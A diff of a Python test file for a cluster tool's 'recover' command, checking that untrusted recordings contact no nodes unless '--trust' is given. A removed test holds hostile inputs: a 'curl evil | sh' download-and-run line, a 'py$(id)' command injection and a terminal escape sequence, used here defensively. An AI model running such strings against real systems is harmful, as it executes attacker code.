@@ -5,13 +5,10 @@ from __future__ import annotations
 import asyncio
 import io
 import json
-import os
 import shutil
 import subprocess
 import sys
-import threading
 from collections.abc import Iterator
-from concurrent.futures import ThreadPoolExecutor
 from contextlib import redirect_stdout
 from dataclasses import dataclass, replace
 from pathlib import Path
@@ -23,16 +20,15 @@ from gswarm_tui.cli import main
 from gswarm_tui.options.arguments import parse
 from gswarm_tui.run import build
 from gswarm_tui.run.plan import Plan
-from gswarm_tui.run.resume_notes import NOTES, read_note, write_note
+from gswarm_tui.run.resume_notes import NOTES
 from gswarm_tui.run.saved_options import save_options
 from gswarm_tui.store.recording.recorder import Recorder
 from tests.integration.heads import agents_of, eventually, head, nothing_left, rows
 from tests.recorders import kill_recorder
-from tests.terminal import PATIENCE_S
 from tests.unit.store_recording import INFO, arrived, gpu_row, introduced, query
 
 UID = "f0e1d2c3-0"
-LISTED = f"made elsewhere or changed: nodes not contacted; gswarm-tui recover {UID[:8]} shows how"
+LISTED = "made elsewhere or changed, and its options can run commands: no node was contacted."
 
 
 @pytest.fixture(autouse=True)
@@ -116,46 +112,15 @@ def test_ssh_config_beside_a_downloaded_recording_runs_nothing(
     assert main(["recover"]) == 0
     assert LISTED in capsys.readouterr().out
     assert main(["recover", UID, "--finish"]) == 2
-    told = capsys.readouterr()
-    assert f"  SSH config    {trap.config}\n" in told.out
-    assert told.err == (
-        f"gswarm-tui: recording {UID[:8]} was made elsewhere or changed; add --trust to connect as shown.\n"
+    assert capsys.readouterr().err == (
+        f"gswarm-tui: {LISTED} `gswarm-tui sql 'FROM recordings' --json --db {folder}/run.duckdb` shows "
+        f"the options; gswarm-tui recover {UID[:8]} --trust uses them.\n"
     )
+    assert main(["sql", "FROM recordings", "--json", "--db", "run.duckdb"]) == 0
+    assert "ssh_config" in capsys.readouterr().out
     assert not trap.ran
     assert run("recover", UID, "--finish", "--trust", contacts=True)[0] == 1
     assert trap.ran, "the trap works"
-
-
-def test_every_option_that_runs_a_command_is_shown_in_full(
-    folder: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    nodes = [f"gpu{n:03}" for n in range(1, 1000, 2)]
-    leave(
-        folder / "run.duckdb",
-        launcher="srun",
-        job=["4711", "4711", None],
-        user="ada",
-        jump="hop",
-        setup=True,
-        agent_python="py$(id)",
-        nodes=[*nodes, "evil\x1b[2J"],
-    )
-    setup = "true; " * 100 + "curl evil | sh\necho \x1b[2J"
-    assert main(["recover", UID, "--finish", "--setup", setup]) == 2
-    shown = capsys.readouterr().out.splitlines()
-    (listed,) = (line.split()[1] for line in shown if line.startswith("  nodes "))
-    assert listed.count(",") == 500
-    assert listed.endswith(",evil\\x1b[2J")
-    for name, value in {
-        "launcher": "srun",
-        "job": "4711",
-        "user": "ada",
-        "jump host": "hop",
-        "SSH config": "~/.ssh/config",
-        "setup": setup.replace("\n", "\\n").replace("\x1b", "\\x1b"),
-        "agent Python": "py$(id)",
-    }.items():
-        assert f"  {name:14}{value}" in shown
 
 
 CHANGES: dict[str, dict[str, object]] = {
@@ -187,7 +152,7 @@ def test_own_recording_is_contacted_only_while_its_options_are_unchanged(
 
 
 @pytest.mark.parametrize("lost", [False, True])
-def test_own_recording_needs_confirmation_after_its_state_folder_is_lost(folder: Path, lost: bool) -> None:
+def test_own_recording_needs_trust_after_its_state_folder_is_lost(folder: Path, lost: bool) -> None:
     trap = Trap.set(folder / "config")
     leave_own(folder / "run.duckdb", "--ssh-config", str(trap.config))
     if lost:
@@ -220,11 +185,8 @@ def test_options_on_the_command_line_win_over_those_in_the_file(folder: Path, tr
     theirs, own = Trap.set(folder / "theirs"), Trap.set(folder / "own")
     leave(folder / "run.duckdb", ssh_config=str(theirs.config), jump="evil", setup=True)
     words = ["--ssh-config", str(own.config), "--jump", "hop", "--setup", "module load cuda"]
-    status, shown = run("recover", UID, "--finish", *words, *["--trust"] * trusted, contacts=trusted)
+    status, _ = run("recover", UID, "--finish", *words, *["--trust"] * trusted, contacts=trusted)
     assert (status, theirs.ran, own.ran) == (1 if trusted else 2, False, trusted)
-    if not trusted:
-        assert "  jump host     hop\n" in shown
-        assert "  setup         module load cuda\n" in shown
 
 
 @pytest.fixture
@@ -233,7 +195,7 @@ def path(folder: Path) -> Iterator[Path]:
         yield folder / "run.duckdb"
 
 
-def test_recording_of_another_home_folder_is_finished_after_confirmation(
+def test_recording_of_another_home_folder_is_finished_if_it_is_trusted(
     path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     with head("--launcher", "local", "--interval", "0.1", "--db", str(path)) as running:
@@ -242,28 +204,9 @@ def test_recording_of_another_home_folder_is_finished_after_confirmation(
     ((uid,),) = query(path, "SELECT uid FROM recordings")
     monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "elsewhere"))
     unended = "SELECT count(*) FROM recordings WHERE ended_at IS NULL"
-    for answer, status in (("\r", 1), ("n\r", 1), ("y\r", 0)):
+    for words, status in (((), 2), (("--trust",), 0)):
         assert query(path, unended) == [(1,)]
         assert agents_of(uid)
-        with head("recover", uid, "--finish") as running:
-            running.wait_for("Connect with these options? [y/N]")
-            assert f"nodes         {os.uname().nodename}" in running.screen()
-            running.press(answer)
-            assert running.exit_status() == status
+        assert run("recover", uid, "--finish", *words, contacts=True)[0] == status
     assert query(path, unended) == [(0,)]
     eventually(lambda: agents_of(uid) == [], "the end of all that was left")
-
-
-def test_heads_that_start_at_once_share_a_private_key() -> None:
-    def start(number: int) -> None:
-        together.wait(PATIENCE_S)
-        write_note(f"a{number}", {}, "")
-
-    for _ in range(20):
-        together = threading.Barrier(4)
-        with ThreadPoolExecutor(4) as heads:
-            list(heads.map(start, range(4)))
-        assert [read_note(f"a{number}", {}) for number in range(4)] == [""] * 4
-        assert {file.name for file in NOTES.path.iterdir()} == {f"a{n}.json" for n in range(4)} | {"key"}
-        assert {file.stat().st_mode & 0o777 for file in NOTES.path.iterdir()} == {0o600}
-        shutil.rmtree(NOTES.path)
